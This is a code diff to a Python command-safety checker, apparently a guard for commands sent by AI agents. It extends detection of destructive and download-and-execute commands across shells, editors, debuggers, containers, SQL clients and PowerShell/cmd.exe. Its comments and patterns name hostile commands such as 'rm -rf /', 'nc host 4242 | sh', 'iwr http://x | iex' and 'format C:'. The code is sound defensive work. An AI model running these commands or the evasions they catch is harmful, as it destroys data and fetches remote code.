@@ -10,6 +10,7 @@ handed back to the caller's ``judge_text``/``judge_sql`` callbacks.
 from __future__ import annotations
 
 import re
+import shlex
 from collections.abc import Callable
 from dataclasses import dataclass, field
 
@@ -42,7 +43,16 @@ _DOWNLOADERS = frozenset({"curl", "wget", "fetch", "aria2c", "http", "https", "l
 # the machine (`nc host 4242 | sh`, `sh -i | nc host 4242`: a reverse shell).
 NETWORK_CLIENTS = frozenset({"nc", "ncat", "netcat", "socat", "telnet", "openssl-s_client"})
 _NC_EXEC = frozenset({"-e", "-c", "--exec", "--sh-exec", "--lua-exec"})
-_SQL_CLIENTS = frozenset({"psql", "mysql", "mariadb", "sqlite3", "sqlite", "duckdb"})
+_SQL_CLIENTS = frozenset({"psql", "mysql", "mariadb", "sqlite3", "sqlite", "duckdb",
+                          "clickhouse-client", "clickhouse", "sqlcmd", "pgcli", "mycli",
+                          "litecli"})
+# Each SQL client's options carrying a statement.
+_SQL_FLAGS: dict[str, tuple[str, ...]] = {
+    "psql": ("-c", "--command"), "mysql": ("-e", "--execute"), "mariadb": ("-e", "--execute"),
+    "clickhouse-client": ("-q", "--query"), "clickhouse": ("-q", "--query"),
+    "sqlcmd": ("-Q", "-q"), "pgcli": ("-e", "--execute"), "mycli": ("-e", "--execute"),
+    "litecli": ("-e", "--execute"),
+}
 _STDIN_NAMES = frozenset({"-", "/dev/stdin", "/dev/fd/0", "/proc/self/fd/0"})
 # Directories under / whose removal or world-writable permissions wreck a machine.
 _SYSTEM = frozenset({
@@ -188,7 +198,7 @@ def _unwrap(name: str, argv: list[str], i: int) -> int | None:
     return j if j < len(argv) else None
 
 
-def judge_argv(argv: list[str], dls: list[bool], judge_text: Callable[[str], None],
+def judge_argv(argv: list[str], dls: list[bool], judge_text: Callable[[str], bool],
                judge_sql: Callable[[str], None]) -> Cmd:
     """Raise Dangerous if ``argv`` (with per-word "runs a download" flags) is dangerous."""
     i = 0
@@ -224,7 +234,7 @@ def judge_argv(argv: list[str], dls: list[bool], judge_text: Callable[[str], Non
 
 
 def _judge_command(name: str, argv: list[str], dls: list[bool],
-                   judge_text: Callable[[str], None], judge_sql: Callable[[str], None]) -> Cmd:
+                   judge_text: Callable[[str], bool], judge_sql: Callable[[str], None]) -> Cmd:
     args = argv[1:]
     if name == "rm":
         letters, longs = _short_flags(args)
@@ -283,6 +293,52 @@ def _judge_command(name: str, argv: list[str], dls: list[bool],
         if k < len(args):
             judge_text(" ".join(args[k:]))
         return Cmd(argv)
+    if name == "alias":  # alias x='rm -rf /': judged as its expansion, when defined
+        for a in args:
+            if "=" in a:
+                judge_text(a.split("=", 1)[1])
+        return Cmd(argv)
+    if name == "script":
+        for k, a in enumerate(args):
+            if a in ("-c", "--command") and k + 1 < len(args):
+                judge_text(args[k + 1])
+            elif a.startswith("--command="):
+                judge_text(a.split("=", 1)[1])
+        return Cmd(argv)
+    if name in ("tmux", "byobu"):  # tmux new -d "rm -rf /": each argument may be a command
+        for a in args:
+            if not a.startswith("-"):
+                judge_text(a)
+        return Cmd(argv)
+    if name in ("at", "batch"):
+        return Cmd(argv, stdin_code="sh")  # at now <<< "...": runs what it reads
+    if name in ("awk", "gawk", "mawk", "nawk", "busybox-awk"):
+        for a in args:
+            for m in _AWK_SYSTEM.finditer(a):
+                judge_text(m[1].replace('\\"', '"'))
+        return Cmd(argv)
+    if name in ("gdb", "lldb"):
+        for k, a in enumerate(args):
+            if a in ("-ex", "--ex", "-eval-command", "--eval-command", "-o", "--one-line") \
+                    and k + 1 < len(args):
+                cmd = args[k + 1].strip()
+                for lead in ("shell ", "!", "platform shell "):
+                    if cmd.startswith(lead):
+                        judge_text(cmd[len(lead):])
+        return Cmd(argv)
+    if name in ("vim", "vi", "nvim", "view", "ex", "gvim", "vimdiff"):
+        for k, a in enumerate(args):
+            cmd = args[k + 1] if a in ("-c", "--cmd") and k + 1 < len(args) else \
+                a[1:] if a.startswith("+") else ""
+            bang = _VIM_BANG.match(cmd)
+            if bang:
+                judge_text(bang[1])
+        return Cmd(argv)
+    if name in ("docker", "podman", "nerdctl") and any(a in ("run", "create") for a in args):
+        # docker run -v /:/host alpine rm -rf /host: paths under the mount are the host's
+        mounts = _mounts(args)
+        if mounts:
+            argv = [_host_path(a, mounts) for a in argv]
     if name in ("dropdb", "dropuser") or (name == "mysqladmin" and "drop" in args):
         raise Dangerous  # drops a whole database
     if name == "rsync" and any(a.startswith("--delete") for a in args) and \
@@ -329,6 +385,38 @@ def _judge_command(name: str, argv: list[str], dls: list[bool],
     return Cmd(argv)
 
 
+_AWK_SYSTEM = re.compile(r'system\s*\(\s*"((?:[^"\\\n]|\\.)*)"')
+_VIM_BANG = re.compile(r"\s*:?\s*(?:silent!?\s*)?(?:!|call\s+system\(\s*['\"])(.*)")
+
+
+def _mounts(args: list[str]) -> dict[str, str]:
+    """Container path -> host path of each bind mount given to ``docker run``."""
+    out: dict[str, str] = {}
+    for k, a in enumerate(args):
+        spec = ""
+        if a in ("-v", "--volume") and k + 1 < len(args):
+            spec = args[k + 1]
+        elif a.startswith(("--volume=", "-v")) and a not in ("-v", "--volume"):
+            spec = a.split("=", 1)[1] if a.startswith("--volume=") else a[2:]
+        elif (a == "--mount" and k + 1 < len(args)) or a.startswith("--mount="):
+            fields = dict(f.split("=", 1) for f in (args[k + 1] if a == "--mount" else
+                                                    a.split("=", 1)[1]).split(",") if "=" in f)
+            src = fields.get("source", fields.get("src", ""))
+            dst = fields.get("target", fields.get("dst", fields.get("destination", "")))
+            spec = src + ":" + dst if src and dst else ""
+        parts = spec.split(":")
+        if len(parts) >= 2 and parts[0].startswith(("/", "~")) and parts[1].startswith("/"):
+            out[parts[1].rstrip("/") or "/"] = parts[0]
+    return out
+
+
+def _host_path(word: str, mounts: dict[str, str]) -> str:
+    for dst, src in mounts.items():
+        if dst != "/" and (word == dst or word.startswith(dst + "/")):
+            return src.rstrip("/") + "/" + word[len(dst):].lstrip("/")
+    return word
+
+
 _COMMAND_NAME = re.compile(r"[a-z0-9][a-z0-9._+-]*")  # not "Please", not "Fix:"
 # Names that start a dangerous argument tail; commands whose arguments are never run.
 _TAIL_NAMES = frozenset({"rm", "dd", "mkfs", "shred", "wipefs", "chmod", "chown", "find",
@@ -339,7 +427,7 @@ _NOT_RUNNERS = frozenset({"git", "grep", "egrep", "fgrep", "rg", "ag", "ack", "m
                           "brew", "yum", "dnf", "pip", "npm", "cargo", "ls", "cat", "less"})
 
 
-def _judge_find(args: list[str], judge_text: Callable[[str], None],
+def _judge_find(args: list[str], judge_text: Callable[[str], bool],
                 judge_sql: Callable[[str], None]) -> None:
     paths = []
     k = 0
@@ -360,11 +448,13 @@ def _judge_find(args: list[str], judge_text: Callable[[str], None],
             if critical and basename(inner[0]) in ("rm", "shred", "unlink", "chmod", "chown",
                                                    "chgrp", "mv", "truncate", "wipe"):
                 raise Dangerous
+            if paths and DYNAMIC not in paths[0]:  # sh -c "rm -rf {}": {} is each path found
+                inner = [a.replace("{}", paths[0]) for a in inner]
             judge_argv(inner, [False] * len(inner), judge_text, judge_sql)
 
 
 def _judge_shell(name: str, argv: list[str], dls: list[bool],
-                 judge_text: Callable[[str], None]) -> Cmd:
+                 judge_text: Callable[[str], bool]) -> Cmd:
     args = argv[1:]
     k = 0
     command_string = stdin = False
@@ -394,8 +484,9 @@ def _judge_shell(name: str, argv: list[str], dls: list[bool],
         raise Dangerous
     rest = args[k:]
     if command_string:
-        if rest:
-            judge_text(rest[0])
+        # no string: xargs or find supplies it; a string running its stdin: cat | bash
+        if not rest or judge_text(rest[0]):
+            return Cmd(argv, stdin_code="sh")
         return Cmd(argv)
     if stdin or not rest or rest[0] in _STDIN_NAMES:
         return Cmd(argv, stdin_code="sh" if name != "su" or not rest else None)
@@ -406,21 +497,36 @@ _LITERAL = re.compile(r"""'((?:[^'\\\n]|\\.)*)'|"((?:[^"\\\n]|\\.)*)"|`([^`]*)`"
 
 
 def _judge_interpreter(argv: list[str], dls: list[bool],
-                       judge_text: Callable[[str], None]) -> Cmd:
+                       judge_text: Callable[[str], bool]) -> Cmd:
     args = argv[1:]
     if any(dls[1:]):
         raise Dangerous
+    if basename(argv[0]).startswith(("deno", "bun")) and args[:1] in (["run"], ["x"]):
+        args = args[1:]  # deno run -, bun run -: the script from stdin
     for k, a in enumerate(args):
         if a in ("-c", "-e", "-E", "-r", "--eval", "-p", "--print") and k + 1 < len(args):
-            for m in _LITERAL.finditer(args[k + 1]):  # system("rm -rf /"), os.system('...')
-                judge_text(m[1] or m[2] or m[3] or "")
+            _judge_code(args[k + 1], judge_text)
             return Cmd(argv)
         if not a.startswith("-") or a in _STDIN_NAMES:
             return Cmd(argv, stdin_code="code" if a in _STDIN_NAMES else None)
     return Cmd(argv, stdin_code="code")
 
 
-def _judge_ssh(args: list[str], judge_text: Callable[[str], None]) -> Cmd:
+# shutil.rmtree('/'), File::Path remove_tree, FileUtils.rm_rf, fs.rmSync, os.RemoveAll
+_RMTREE = re.compile(r"""(?:rmtree|remove_tree|rm_rf|rm_r|rmSync|rmdirSync|RemoveAll|rmdir)"""
+                     r"""\s*\(\s*(?:r|Path\(\s*)?(['"])([^'"\n]*)\1""")
+
+
+def _judge_code(code: str, judge_text: Callable[[str], bool]) -> None:
+    """Judge a program given on an interpreter's command line."""
+    for m in _LITERAL.finditer(code):  # system("rm -rf /"), os.system('...')
+        judge_text(m[1] or m[2] or m[3] or "")
+    for m in _RMTREE.finditer(code):
+        if is_critical(m[2]):
+            raise Dangerous
+
+
+def _judge_ssh(args: list[str], judge_text: Callable[[str], bool]) -> Cmd:
     k = 0
     while k < len(args) and args[k].startswith("-"):
         k += 2 if args[k][-1] in _SSH_OPTS and len(args[k]) == 2 else 1
@@ -431,14 +537,13 @@ def _judge_ssh(args: list[str], judge_text: Callable[[str], None]) -> Cmd:
 
 def _judge_sql_client(name: str, argv: list[str], judge_sql: Callable[[str], None]) -> Cmd:
     args = argv[1:]
-    flag = {"psql": ("-c", "--command"), "mysql": ("-e", "--execute"),
-            "mariadb": ("-e", "--execute")}.get(name, ("-cmd", "-c"))
+    flag = _SQL_FLAGS.get(name, ("-cmd", "-c"))
     found = False
     for k, a in enumerate(args):
         if a in flag and k + 1 < len(args):
             judge_sql(args[k + 1])
             found = True
-        elif a.startswith(flag[1] + "="):
+        elif a.startswith(flag[1] + "=") and flag[1].startswith("--"):
             judge_sql(a.split("=", 1)[1])
             found = True
         elif a.startswith(flag[0]) and len(a) > len(flag[0]) and name != "sqlite3":
@@ -452,3 +557,127 @@ def _judge_sql_client(name: str, argv: list[str], judge_sql: Callable[[str], Non
             judge_sql(sql)
             found = True
     return Cmd(argv, stdin_code=None if found else "sql")
+
+
+# --- PowerShell and cmd.exe ------------------------------------------------------------------
+# Agents on Windows send these. A small judge of its own: each command between ; & | and line
+# ends is split as cmd.exe would (shlex, non-POSIX) and a handful of verbs are judged.
+_WIN_SPLIT = re.compile(r"\r?\n|;|&&|\|\||&|\|")
+_WIN_REMOVE = frozenset({"remove-item", "ri", "rm", "rmdir", "rd", "del", "erase", "rd.exe"})
+_WIN_DOWNLOAD = frozenset({"iwr", "irm", "invoke-webrequest", "invoke-restmethod", "curl",
+                           "wget", "curl.exe", "wget.exe", "start-bitstransfer"})
+_WIN_EXEC = frozenset({"iex", "invoke-expression"})
+_WIN_SHELLS = frozenset({"cmd", "cmd.exe", "powershell", "powershell.exe", "pwsh", "pwsh.exe"})
+_WIN_SYSTEM = frozenset({"windows", "users", "program files", "program files (x86)",
+                         "programdata", "documents and settings", "system32", "boot"})
+_WIN_ROOT = re.compile(r"(?i)(?:[a-z]:|\$env:systemdrive|%systemdrive%)?[\\/]*\*?(?:\.\*)?\Z")
+_WIN_VARS = re.compile(r"(?i)\$env:(?:systemroot|windir|userprofile|homedrive|programfiles|"
+                       r"systemdrive)|%(?:systemroot|windir|userprofile|homedrive|programfiles|"
+                       r"systemdrive)%|\$home|~")
+
+
+def _win_critical(path: str) -> bool:
+    p = path.strip().strip("'\"").replace("/", "\\").lower().rstrip("\\")
+    if _WIN_ROOT.fullmatch(p + "\\") or _WIN_ROOT.fullmatch(p):
+        return True
+    m = _WIN_VARS.match(p)
+    if m:
+        rest = p[m.end():].strip("\\")
+        return rest in ("", "*", "*.*")
+    drive = re.match(r"[a-z]:\\?", p)
+    if drive:
+        parts = [x for x in p[drive.end():].split("\\") if x]
+        if parts and parts[-1] in ("*", "*.*"):
+            parts.pop()
+        return (len(parts) == 1 and parts[0] in _WIN_SYSTEM) or \
+            (len(parts) == 2 and parts[0] == "windows" and parts[1] == "system32")
+    return False
+
+
+_WIN_MARK = re.compile(r"(?m)(?:^|[;&|(])[ \t@{(]*(remove-item|ri|rm|rmdir|rd|del|erase|format|cmd|"
+                       r"cmd\.exe|powershell|powershell\.exe|pwsh|pwsh\.exe|diskpart|"
+                       r"clear-disk)[ \t][^;&|\n]*?(?:\b[a-z]:|\$env:|%\w+%|\$home\b|"
+                       r"\\(?![^\s*]))")
+_WIN_SEP = re.compile(r"[;&|\n]")
+_WIN_IEX = re.compile(r"(?:iex|invoke-expression)\b")
+_WIN_FETCH = re.compile(r"\b(?:iwr|irm|invoke-webrequest|invoke-restmethod|curl|wget|"
+                        r"downloadstring|downloadfile|net\.webclient|start-bitstransfer)\b")
+_WIN_VERBS = ("remove-item", "ri ", "rm ", "rd ", "rmdir", "del ", "erase", "format", "cmd",
+              "powershell", "pwsh", "diskpart", "clear-disk")
+MAX_WIN_HITS = 2000  # commands judged per text; more fails closed
+
+
+def _win_words(segment: str) -> list[str]:
+    if len(segment) <= 4096:
+        try:
+            return shlex.split(segment, posix=False)
+        except ValueError:
+            pass
+    return segment.split()
+
+
+def judge_windows(text: str) -> bool:
+    """True when ``text`` holds a PowerShell or cmd.exe command that wipes a drive, the system
+    or the profile (``Remove-Item -Recurse C:\\``, ``rd /s /q C:\\``, ``format C:``), or runs
+    a download (``iwr http://x | iex``). Only commands starting with one of a handful of verbs
+    and naming a drive, ``$env:``/``%VAR%`` or ``\\`` are split and judged; every search is a
+    linear regex scan."""
+    return _judge_windows(text.lower(), 0)
+
+
+def _judge_windows(low: str, depth: int) -> bool:
+    if depth > 4:
+        return True
+    hits = 0
+    if "iex" in low or "invoke-expression" in low:
+        for m in _WIN_IEX.finditer(low):
+            hits += 1
+            if hits > MAX_WIN_HITS:
+                return True
+            i = m.start()
+            head = low[max(0, i - 2048):i].rstrip(" \t(")
+            if head.endswith("|"):  # iwr http://x | iex: the stage before the pipe
+                stage = head[:-1]
+                cut = max(stage.rfind("|"), stage.rfind(";"), stage.rfind("\n"))
+                if _WIN_FETCH.search(stage, cut + 1):
+                    return True
+            end = _WIN_SEP.search(low, m.end(), m.end() + 2048)
+            call = low[m.end():end.start() if end else m.end() + 2048]
+            if call.lstrip(" \t")[:1] in ("(", "$", "&", "[") and _WIN_FETCH.search(call):
+                return True  # iex (iwr http://x), iex (New-Object Net.WebClient).Download...
+    if not (":" in low or "%" in low or "\\" in low) or \
+            not any(v in low for v in _WIN_VERBS):
+        return False
+    for m in _WIN_MARK.finditer(low):
+        hits += 1
+        if hits > MAX_WIN_HITS:
+            return True
+        end = _WIN_SEP.search(low, m.end())
+        segment = low[m.start(1):end.start() if end else len(low)]
+        if _judge_win_command(_win_words(segment), depth):
+            return True
+    return False
+
+
+def _judge_win_command(words: list[str], depth: int) -> bool:
+    verb = words[0].rsplit("\\", 1)[-1]
+    rest = words[1:]
+    if verb in _WIN_REMOVE:
+        recursive = any(w in ("/s", "-r", "-rf", "-fr") or
+                        (w.startswith("-rec") and "-recurse".startswith(w.rstrip(":")))
+                        for w in rest)
+        targets = [w for w in rest if not w.startswith(("-", "/")) or w == "/"]
+        for k, w in enumerate(rest):  # -Path X, -LiteralPath X
+            if w in ("-path", "-literalpath", "-lp") and k + 1 < len(rest):
+                targets.append(rest[k + 1])
+        return (recursive or verb in ("del", "erase")) and any(_win_critical(t) for t in targets)
+    if verb in ("format", "format.com"):
+        return bool(rest) and re.fullmatch(r"[a-z]:", rest[0]) is not None  # format C: /q
+    if verb in ("diskpart", "clear-disk"):
+        return True
+    if verb in _WIN_SHELLS:
+        for k, w in enumerate(rest):
+            if w in ("/c", "/k", "/r", "-c", "-command", "-commandwithargs"):
+                inner = " ".join(rest[k + 1:]).strip('"')
+                return len(inner) > 65536 or _judge_windows(inner, depth + 1)
+    return False
